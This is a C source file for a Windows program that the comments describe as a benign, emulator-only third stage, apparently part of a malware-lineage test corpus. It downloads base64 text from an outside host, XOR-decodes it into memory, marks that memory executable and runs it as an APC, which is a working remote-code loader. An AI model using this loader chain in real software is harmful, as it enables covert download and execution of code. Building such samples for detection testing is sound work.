/*
 * stage3.c - combo-tcp-lznt1-x86: the program the stage unpacked and started (benign,
 * emulator-only; see ../../lineage-common/common.h).
 *
 * WinINet GET http://cfg.example-cdn.net/c/7f3a (answered by a 302 to the storage host; WinINet
 * follows it) -> base64 text (CryptStringToBinaryA) -> 6-byte repeating XOR -> RW memory ->
 * VirtualProtect RX -> QueueUserAPC to its own thread + SleepEx alertable: the payload
 * (../../lineage-common/payload.c) runs as the APC and writes C:\Users\Public\combo_tcp_apc.txt.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 decode, 4 memory, 5 APC.
 */
#include "common.h"
#include <wininet.h>
#include <wincrypt.h>

static char g_text[0x4000];
static unsigned char g_bin[0x3000];

void Entry(void)
{
    static const unsigned char key[6] = {0x4d, 0x17, 0xe2, 0x9b, 0x30, 0xc5};
    static struct sc_ctx ctx;
    HINTERNET net, url;
    DWORD total = 0, got, size, i, old;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    net = InternetOpenA("Mozilla/5.0 (Windows NT 10.0)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "http://cfg.example-cdn.net/c/7f3a", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!url)
        ExitProcess(2);
    while (total < sizeof(g_text) - 1 && InternetReadFile(url, g_text + total, sizeof(g_text) - 1 - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    size = sizeof(g_bin);
    if (!total || !CryptStringToBinaryA(g_text, total, CRYPT_STRING_BASE64, g_bin, &size, 0, 0))
        ExitProcess(3);
    mem = (unsigned char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < size; i++)
        mem[i] = g_bin[i] ^ key[i % 6];
    if (!VirtualProtect(mem, size, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\combo_tcp_apc.txt", "config run as an APC by the unpacked program\n");
    if (!QueueUserAPC((PAPCFUNC)(void *)mem, GetCurrentThread(), (ULONG_PTR)&ctx))
        ExitProcess(5);
    SleepEx(50, TRUE);
    ExitProcess(0);
}
